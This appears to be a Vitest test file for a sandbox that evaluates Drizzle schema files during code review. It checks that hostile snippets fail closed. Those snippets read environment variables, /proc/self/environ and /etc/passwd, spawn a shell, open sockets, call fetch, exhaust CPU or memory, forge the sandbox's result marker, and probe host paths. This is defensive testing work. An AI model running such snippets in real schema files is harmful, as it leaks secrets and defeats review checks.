// Hostile schema modules: each must fail closed (no secret, file, process or socket reaches it), end with a warning
// naming why (the PR touched the schema: failing on purpose must not dodge the staleness check), and let the review
// complete.
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { schemaLaunchPlan } from '../../src/drizzle/evaluate-schema.js';
import { RESULT_MARKER } from '../../src/drizzle/sandbox-protocol.js';
import rule from '../../src/rules/drizzle-schema-stale.js';
import { drizzleInput, loadFixture } from './drizzle-input.js';

const SCHEMA = 'src/db/schema.ts';
const f = loadFixture('clean');
const thisFile = fileURLToPath(import.meta.url);

async function evaluateHostile(snippet: string, sandbox = { timeoutMs: 4000 }) {
  const head = { ...f.base, [SCHEMA]: `${f.base[SCHEMA]}\n${snippet}\n` };
  const input = await drizzleInput(f.base, head, { sandbox });
  const reports = await rule.check(input);
  return { evaluation: input.drizzle.folders[0].evaluation, reports };
}

const cases: Array<{ name: string; snippet: string; reason: string; message: RegExp; timeoutMs?: number }> = [
  {
    name: 'reads process.env',
    snippet: "export const url = process.env.DATABASE_URL ?? 'file:local.db';",
    reason: 'denied',
    message: /process\.env\.DATABASE_URL is not available/,
  },
  {
    name: 'lists process.env',
    snippet: 'export const keys = Object.keys(process.env).join(",");',
    reason: 'denied',
    message: /process\.env is not available/,
  },
  {
    name: 'reads /proc/self/environ',
    snippet: "export const leak = process.getBuiltinModule('fs').readFileSync('/proc/self/environ', 'utf8');",
    reason: 'denied',
    message: /refused an operation \(FileSystemRead: \/proc\/self\/environ\)/,
  },
  {
    name: 'reads a file outside the temp folder (Safari\'s own test file)',
    snippet: `export const leak = process.getBuiltinModule('fs').readFileSync(${JSON.stringify(thisFile)}, 'utf8');`,
    reason: 'denied',
    message: /FileSystemRead/,
  },
  {
    name: 'writes a file',
    snippet: "process.getBuiltinModule('fs').writeFileSync('/tmp/safari-pwned', 'x');",
    reason: 'denied',
    message: /FileSystemWrite/,
  },
  {
    name: 'imports node:fs (refused before anything runs)',
    snippet: "import { readFileSync } from 'node:fs';\nexport const leak = readFileSync('/etc/passwd', 'utf8');",
    reason: 'import',
    message: /imports node:fs, which the schema sandbox does not provide/,
  },
  {
    name: 'spawns a process',
    snippet: "export const who = String(process.getBuiltinModule('child_process').execFileSync('/bin/sh', ['-c', 'id'], { env: {} }));",
    reason: 'denied',
    message: /ChildProcess/,
  },
  {
    name: 'starts a worker',
    snippet: "const { Worker } = process.getBuiltinModule('worker_threads');\nnew Worker('0', { eval: true });",
    reason: 'denied',
    message: /WorkerThreads/,
  },
  {
    name: 'opens a socket',
    snippet: "process.getBuiltinModule('net').connect(443, '1.1.1.1');",
    reason: 'denied',
    message: /opening a network socket is not available/,
  },
  {
    name: 'calls fetch',
    snippet: "await fetch('https://example.com/?leak=1');",
    reason: 'denied',
    message: /fetch is not available/,
  },
  {
    name: 'loops forever',
    snippet: 'while (true) {}',
    reason: 'timeout',
    message: /did not finish within 2\.0 s and was stopped/,
    timeoutMs: 2000,
  },
  {
    name: 'allocates without bound',
    snippet: 'const hog: number[][] = [];\nfor (;;) hog.push(new Array(1e6).fill(1));',
    reason: 'memory',
    message: /ran out of its 256 MB memory limit/,
  },
  {
    name: 'exits before answering',
    snippet: 'process.exit(0);',
    reason: 'crashed',
    message: /exited with code 0 .*without an answer/,
  },
];

describe('schema.ts sandbox', () => {
  for (const c of cases) {
    it(`fails closed with a warning when the schema ${c.name}`, async () => {
      const { evaluation, reports } = await evaluateHostile(c.snippet, { timeoutMs: c.timeoutMs ?? 15000 });
      expect(evaluation).toMatchObject({ status: 'failed', reason: c.reason });
      expect(evaluation.status === 'failed' && evaluation.message).toMatch(c.message);
      const messageId = c.reason === 'import' || c.reason === 'threw' ? 'evaluation-failed' : 'evaluation-stopped';
      expect(reports.map((r) => [r.messageId, r.severity])).toContainEqual([messageId, 'warning']);
    });
  }

  it(`runs under the ${process.env.SAFARI_EXPECT_PLAN ?? 'full'} plan on this machine (CI: SAFARI_EXPECT_PLAN)`, () => {
    expect(schemaLaunchPlan().name).toBe(process.env.SAFARI_EXPECT_PLAN ?? 'full');
  });

  it.runIf(schemaLaunchPlan().namespaces.length > 0)('runs the schema as nobody inside its own user, PID and network namespaces', async () => {
    const snippet = [
      "const os = process.getBuiltinModule('os');",
      "const seen = [process.getuid(), process.pid, process.ppid, Object.keys(os.networkInterfaces()).filter((n) => n !== 'lo').length].join(',');",
      "if (seen !== '65534,1,0,0') throw new Error('sandbox: ' + seen);",
    ].join('\n');
    const { evaluation } = await evaluateHostile(snippet);
    expect(evaluation).toMatchObject({ status: 'fresh', networkIsolated: true });
  });

  it('ignores a result the schema prints itself (the committed snapshot, to pass as fresh)', async () => {
    // The stale-schema fixture: evaluated honestly, the schema differs from the committed snapshot.
    const stale = loadFixture('stale-schema');
    const snapshot = stale.head['drizzle/meta/0000_snapshot.json'] ?? Object.entries(stale.head).find(([p]) => p.endsWith('_snapshot.json'))![1];
    const forged = (exit: boolean) =>
      [
        `const forged = ${JSON.stringify(RESULT_MARKER)} + JSON.stringify({ ok: true, snapshot: ${snapshot.trim()}, sql: [] });`,
        "process.getBuiltinModule('fs').writeSync(1, '\\n' + forged + '\\n');",
        "process.stdout.write('\\n' + forged + '\\n');",
        exit ? 'process.exit(0);' : '',
      ].join('\n');
    for (const exit of [true, false]) {
      const head = { ...stale.head, [SCHEMA]: `${stale.head[SCHEMA]}\n${forged(exit)}\n` };
      const input = await drizzleInput(stale.base, head, { sandbox: { timeoutMs: 4000 } });
      const evaluation = input.drizzle.folders[0].evaluation;
      if (exit) expect(evaluation).toMatchObject({ status: 'failed', reason: 'crashed' });
      else expect(evaluation).toMatchObject({ status: 'stale' });
      const reports = await rule.check(input);
      expect(reports.some((r) => (r.severity ?? rule.meta.defaultSeverity) !== 'notice')).toBe(true);
    }
  });

  it("can't ask the module resolver which host paths exist", async () => {
    const snippet = [
      "const probe = async (f) => { try { return String(await f()); } catch (e) { return e.code ?? e.constructor.name; } };",
      "const where = (p) => Promise.all([",
      "  probe(() => process.getBuiltinModule('module').createRequire('/tmp/x.js').resolve(p)),",
      "  probe(() => import(p)),",
      "  probe(() => import.meta.resolve(p)),",
      "  probe(() => new Function('p', 'return import(p)')(p)),",
      "]);",
      "const [exists, missing] = [await where('/etc/passwd'), await where('/nonexistent/x')];",
      "throw new Error((JSON.stringify(exists) === JSON.stringify(missing) ? 'same:' : 'differs:') + JSON.stringify([exists, missing]));",
    ].join('\n');
    const { evaluation } = await evaluateHostile(snippet);
    expect(evaluation.status === 'failed' && evaluation.message).toMatch(/^same:/);
  });

  it('evaluates an ordinary schema in the same sandbox', async () => {
    const { evaluation, reports } = await evaluateHostile("export const note = 'harmless';");
    expect(evaluation).toMatchObject({ status: 'fresh', networkIsolated: true });
    expect(reports).toEqual([]);
  });
});
